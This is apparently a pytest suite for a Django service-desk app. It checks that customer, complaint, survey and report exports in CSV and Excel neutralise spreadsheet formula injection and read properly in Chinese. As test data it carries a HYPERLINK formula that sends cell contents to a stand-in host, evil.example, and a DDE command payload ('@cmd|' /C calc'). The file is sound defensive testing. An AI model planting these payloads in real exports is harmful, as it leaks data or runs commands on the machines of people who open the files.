"""Every export is safe to open (issue 13 item 6) and readable (issue 11 item 9).

One shared writer (servicedesk/exports.py) serves the customer export, the complaint register, the
survey answers and the report exports; each is checked here in CSV and in Excel, through its view.
"""
import csv
import io
import zipfile
from datetime import datetime
from urllib.parse import unquote
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from servicedesk import exports
from tickets.models import Complaint, Ticket

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SH = ZoneInfo("Asia/Shanghai")
NOV = {"period": "month", "date": "2026-11-01"}


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


def sheet(response):
    return load_workbook(io.BytesIO(body(response))).active


def assert_csv_inert(rows, text=EVIL):
    cells = [c for row in rows for c in row]
    assert "'" + text in cells  # shown as text, not run
    assert not any(exports.is_formula_text(c) for c in cells)


def assert_xlsx_inert(response, text=EVIL):
    """The evil text is in the sheet as a string cell, flagged as text; no formula anywhere in the file."""
    raw = body(response)
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml
    ws = load_workbook(io.BytesIO(raw)).active
    hits = [c for row in ws.iter_rows() for c in row if c.value == text]
    assert hits and all(c.data_type == "s" and c.quotePrefix for c in hits)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def chinese(client):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "zh-hans"
    return client


def zh(text: str) -> str:
    with translation.override("zh-hans"):
        return str(translation.gettext(text))


def disposition(response) -> tuple[str, str]:
    value = response["Content-Disposition"]
    ascii_name = value.split('filename="', 1)[1].split('"', 1)[0]
    label = unquote(value.split("filename*=UTF-8''", 1)[1])
    return ascii_name, label


# --- the one rule --------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", EVIL])
def test_neutralise_prefixes_formula_text(text):
    assert exports.neutralise(text) == "'" + text
    assert exports.csv_value(text) == "'" + text


@pytest.mark.parametrize("value", ["王芳", "a=b", "", -5, 3.5, None])
def test_neutralise_leaves_plain_values(value):
    assert exports.neutralise(value) == value


def test_display_width_counts_cjk_double():
    assert exports.display_width("abc") == 3
    assert exports.display_width("王芳") == 4
    assert exports.display_width("ＡＢ") == 4  # full-width forms


def test_file_name_has_ascii_fallback_and_rfc5987_label():
    name = exports.FileName.build(title="投诉登记簿", slug="complaints", ext="xlsx",
                                  parts=[("attitude", "服务态度"), ("2026-11", "2026-11"), ("", "")])
    assert name.ascii == "complaints-attitude-2026-11.xlsx"
    assert name.label == "投诉登记簿-服务态度-2026-11.xlsx"
    header = name.content_disposition()
    assert header.startswith('attachment; filename="complaints-attitude-2026-11.xlsx"; filename*=UTF-8\'\'')
    assert header.isascii()


def test_sheet_title_is_a_valid_excel_name():
    assert exports.sheet_title("Tickets: opened / month [all] and a very long tail") == "Tickets opened month all and a"


# --- customer export -----------------------------------------------------------------------------
@pytest.fixture
def evil_customer(customer_factory):
    return customer_factory(name=EVIL, phone="13572634817", tier="gold")


def test_customer_export_csv_is_inert_and_labelled(client_for, evil_customer):
    response = client_for("manager").post(reverse("customers:export"), {"fmt": "csv"})
    rows = csv_rows(response)
    assert_csv_inert(rows)
    assert rows[0][:4] == ["ID", "Kind", "Name", "Phone numbers"]
    row = rows[1]
    assert row[3] == "135 7263 4817" and "Gold" in row and "gold" not in row


def test_customer_export_xlsx_is_inert(client_for, evil_customer):
    response = client_for("manager").post(reverse("customers:export"), {"fmt": "xlsx"})
    assert response["Content-Type"] == exports.CONTENT_TYPES["xlsx"]
    assert_xlsx_inert(response)


def test_customer_export_xlsx_in_chinese(client_for, evil_customer):
    client = chinese(client_for("manager"))
    response = client.post(reverse("customers:export"), {"fmt": "xlsx", "tier": "gold"})
    ws = sheet(response)
    header = [c.value for c in ws[1]]
    assert header[2] == zh("Name") != "Name"
    values = [c.value for c in ws[2]]
    gold = "金"  # the tier's Chinese name: tiers are data (customers.CustomerTier, issue 17)
    assert gold in values and "gold" not in values
    ascii_name, label = disposition(response)
    assert ascii_name.startswith("customers-gold-") and ascii_name.endswith(".xlsx")
    assert label.startswith(f"{zh('Customers')}-{gold}-")


# --- complaint register --------------------------------------------------------------------------
@pytest.fixture
def evil_complaint(customer_factory, personas):
    from tickets.services import ticket_create

    return ticket_create(customer=customer_factory(name=EVIL), kind=Ticket.Kind.COMPLAINT, subject="@cmd|' /C calc'!A0",
                         created_by=personas.frontdesk, now=datetime(2026, 11, 3, 9, 30, tzinfo=SH))


def test_complaint_register_csv_is_inert(client_for, evil_complaint):
    rows = csv_rows(client_for("supervisor").get(reverse("tickets:complaints_csv")))
    assert_csv_inert(rows)
    assert "'@cmd|' /C calc'!A0" in rows[1]
    assert rows[1][1] == "2026-11-03 09:30"  # the department's wall clock, not UTC


def test_complaint_register_xlsx_is_inert(client_for, evil_complaint):
    response = client_for("supervisor").get(reverse("tickets:complaints_xlsx"))
    assert_xlsx_inert(response)
    assert_xlsx_inert(response, "@cmd|' /C calc'!A0")


def test_complaint_register_xlsx_readable_in_chinese(client_for, evil_complaint):
    client = chinese(client_for("supervisor"))
    response = client.get(reverse("tickets:complaints_xlsx") + "?category=other&state=open")
    ws = sheet(response)
    assert ws.title == zh("Complaint register")
    assert ws.freeze_panes == "A2" and all(c.font.b for c in ws[1])
    opened = ws.cell(row=2, column=2)
    assert opened.value == datetime(2026, 11, 3, 9, 30) and opened.is_date and "yyyy" in opened.number_format
    stage, status = ws.cell(row=2, column=7).value, ws.cell(row=2, column=8).value
    with translation.override("zh-hans"):
        assert stage == str(Complaint.Stage.CLASSIFIED.label) and stage != "classified"
        assert status == str(Ticket.Status.NEW.label) and status not in ("new", "New")
    ascii_name, label = disposition(response)
    assert ascii_name.startswith("complaints-other-open-")
    assert label.startswith(f"{zh('Complaint register')}-{zh('Other')}-")


# --- survey answers ------------------------------------------------------------------------------
@pytest.fixture
def evil_answer(customer_factory):
    from tests.followups.test_fu_metrics import add_answers

    add_answers(customer_factory(), rows=[(1, 0, 1)], when=datetime(2026, 11, 6, 10, tzinfo=SH), comment=EVIL)


SURVEY = "?start=2026-11&end=2026-11"


def test_survey_csv_is_inert_and_labelled(client_for, evil_answer):
    rows = csv_rows(client_for("manager").get(reverse("followups:satisfaction_export") + SURVEY))
    assert_csv_inert(rows)
    assert rows[1][0] == "2026-11-06 10:00"
    assert rows[1][2:5] == [str(Ticket.Kind.REPAIR.label), "Phone", "Basic"]


def test_survey_xlsx_is_inert(client_for, evil_answer):
    assert_xlsx_inert(client_for("manager").get(reverse("followups:satisfaction_export_xlsx") + SURVEY))


def test_survey_xlsx_in_chinese_names_period_and_filters(client_for, evil_answer):
    client = chinese(client_for("manager"))
    response = client.get(reverse("followups:satisfaction_export_xlsx") + SURVEY + "&channel=phone")
    ws = sheet(response)
    row = [c.value for c in ws[2]]
    with translation.override("zh-hans"):
        from customers.models import Channel

        assert row[2] == str(Ticket.Kind.REPAIR.label) and row[3] == str(Channel.PHONE.label)
    assert "repair" not in row and "phone" not in row
    ascii_name, label = disposition(response)
    assert ascii_name == "survey-answers-2026-11-phone.xlsx"
    assert label.startswith(zh("Survey answers") + "-2026-11-")


# --- report exports ------------------------------------------------------------------------------
@pytest.fixture
def evil_ticket(customer_factory, personas, tmp_path, settings):
    from tickets.services import ticket_create

    settings.MEDIA_ROOT = tmp_path
    customer = customer_factory(name=EVIL)
    ticket_create(customer=customer, kind=Ticket.Kind.REPAIR, subject="Boiler", created_by=personas.frontdesk,
                  now=datetime(2026, 11, 3, 9, 30, tzinfo=SH))
    return customer


def _report_export(client, table, fmt, capture):
    from reports.models import ReportExport

    with capture(execute=True):
        assert client.post("/reports/exports/new/", {"table": table, "fmt": fmt, **NOV}).status_code == 302
    export = ReportExport.objects.latest("id")
    assert export.status == "done", export.error
    return client.get(f"/reports/exports/{export.pk}/download/")


def test_report_export_csv_is_inert_and_labelled(client_for, evil_ticket, django_capture_on_commit_callbacks):
    rows = csv_rows(_report_export(client_for("manager"), "tickets_detail", "csv", django_capture_on_commit_callbacks))
    assert_csv_inert(rows)
    assert rows[1][1:5] == [str(Ticket.Kind.REPAIR.label), "Normal", "New", "Phone"]
    assert rows[1][7] == "2026-11-03 09:30"


def test_report_export_xlsx_is_inert(client_for, evil_ticket, django_capture_on_commit_callbacks):
    assert_xlsx_inert(_report_export(client_for("manager"), "tickets_detail", "xlsx",
                                     django_capture_on_commit_callbacks))


def test_report_section_table_xlsx_is_readable(client_for, evil_ticket, django_capture_on_commit_callbacks):
    response = _report_export(client_for("manager"), "tickets_by_kind_priority", "xlsx",
                              django_capture_on_commit_callbacks)
    ws = sheet(response)
    assert ws.title == "Tickets by kind and priority"
    assert ws.freeze_panes == "A2" and all(c.font.b for c in ws[1])
    assert [c.value for c in ws[2]][:2] == [str(Ticket.Kind.REPAIR.label), "Normal"]
    assert disposition(response)[0] == "tickets-by-kind-priority-2026-11-01_2026-11-30.xlsx"


def test_report_ticket_rows_xlsx_in_chinese(client_for, evil_ticket, django_capture_on_commit_callbacks):
    """The issue's example: the Chinese file holds labels, a titled sheet, a frozen bold header, fitted
    widths, real local date/time cells and the period in its name."""
    from customers.models import Channel

    client = chinese(client_for("manager"))
    response = _report_export(client, "tickets_detail", "xlsx", django_capture_on_commit_callbacks)
    ws = sheet(response)
    assert ws.title == zh("Tickets opened in the period") != "Tickets opened in the period"
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]][:2] == [zh("Number"), zh("Kind")] and all(c.font.b for c in ws[1])
    row = [c.value for c in ws[2]]
    with translation.override("zh-hans"):
        expected = [str(Ticket.Kind.REPAIR.label), str(Ticket.Priority.NORMAL.label), str(Ticket.Status.NEW.label),
                    str(Channel.PHONE.label)]
    assert row[1:5] == expected and not {"repair", 1, "new", "phone"} & set(row)
    opened = ws.cell(row=2, column=8)
    assert opened.value == datetime(2026, 11, 3, 9, 30) and opened.is_date and opened.number_format == "yyyy-mm-dd hh:mm"
    widths = {k: d.width for k, d in ws.column_dimensions.items()}
    assert widths["F"] >= len(EVIL) + 2 and widths["H"] >= 16 and len(set(widths.values())) > 2
    ascii_name, label = disposition(response)
    assert ascii_name == "tickets-detail-2026-11-01_2026-11-30.xlsx"
    assert label == f"{zh('Tickets opened in the period')}-2026-11-01_2026-11-30.xlsx"


def test_cjk_text_gets_a_double_width_column():
    ws = load_workbook(io.BytesIO(exports.xlsx_bytes(exports.Table(
        title="t", headers=["Name", "Code"], rows=[["王芳王芳王芳王芳王芳", "abcdefghij"]])))).active
    assert ws.column_dimensions["A"].width == 22 and ws.column_dimensions["B"].width == 12
